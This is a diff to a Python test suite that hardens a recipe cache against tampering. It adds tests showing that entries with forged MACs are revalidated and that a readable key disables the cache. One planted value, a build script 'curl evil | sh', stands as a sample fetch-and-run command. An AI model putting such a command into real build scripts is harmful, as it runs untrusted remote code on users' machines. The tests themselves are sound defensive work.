@@ -2,6 +2,7 @@
 
 from __future__ import annotations
 
+import json
 import os
 import re
 from pathlib import Path
@@ -43,16 +44,46 @@ def test_cached_document_equals_the_validated_one(path: Path, own_cache: Path) -
     assert recipe.parse_recipe(data, path.name) == validated
 
 
-def test_a_stored_entry_is_used_and_a_changed_file_misses(own_cache: Path) -> None:
+def test_a_stored_entry_is_used_and_a_changed_file_misses(own_cache: Path, monkeypatch) -> None:
     data = (ROOT / "recipes" / "busybox.toml").read_bytes()
     recipe.parse_recipe(data, "busybox.toml")
     (entry,) = own_cache.iterdir()
-    # an entry is trusted as it stands: prove it is read by changing what it says
+    validated: list[str] = []
+    real = recipe._validate
+    monkeypatch.setattr(recipe, "_validate", lambda d, s: validated.append(s) or real(d, s))
+    assert recipe.parse_recipe(data, "busybox.toml").package.name == "busybox" and validated == []  # the entry
+    # an entry changed by anyone without this user's key is not believed: validated again
     entry.write_text(entry.read_text().replace('"busybox"', '"busybox-from-cache"', 1))
-    assert recipe.parse_recipe(data, "busybox.toml").package.name == "busybox-from-cache"
+    assert recipe.parse_recipe(data, "busybox.toml").package.name == "busybox" and len(validated) == 1
     edited = data.replace(b'version = "1.36.1"', b'version = "1.36.2"')
     assert recipe.parse_recipe(edited, "busybox.toml").package.version == "1.36.2"
     assert len(list(own_cache.iterdir())) == 2
+
+
+def test_an_entry_planted_by_someone_else_is_not_believed(own_cache: Path) -> None:
+    """Records read back from the cache skipped validation: whoever could write the
+    directory could make a recipe skip its checks (a dest leaving the tree, say)."""
+    data = (ROOT / "recipes" / "busybox.toml").read_bytes()
+    hostile = data.replace(b'version = "1.36.1"', b'version = "1.36.1"\n# planted')
+    fields = recipe.document_fields(recipe.parse_recipe(data, "busybox.toml"))
+    fields["build"]["script"] = "curl evil | sh"
+    path = recipecache._entry(hostile, recipe.code_tag())
+    for mac in ("0" * 64, ""):
+        path.write_text(f"{mac}\n{json.dumps(fields)}")
+        assert recipe.parse_recipe(hostile, "busybox.toml").build.script != "curl evil | sh"
+        path.unlink()
+    key = own_cache.parent / "recipes.key"
+    assert key.stat().st_mode & 0o777 == 0o600
+
+
+def test_a_key_others_can_read_turns_the_cache_off(tmp_path: Path, monkeypatch) -> None:
+    monkeypatch.setenv("LWRECIPE_TOOL_CACHE", str(tmp_path / "shared" / "tools.json"))
+    (tmp_path / "shared").mkdir()
+    (tmp_path / "shared" / "recipes.key").write_bytes(b"k" * 32)
+    (tmp_path / "shared" / "recipes.key").chmod(0o644)
+    data = (ROOT / "recipes" / "busybox.toml").read_bytes()
+    recipe.parse_recipe(data, "busybox.toml")
+    assert not (tmp_path / "shared" / "recipes").exists()
 
 
 def test_a_damaged_entry_only_costs_validation(own_cache: Path) -> None:
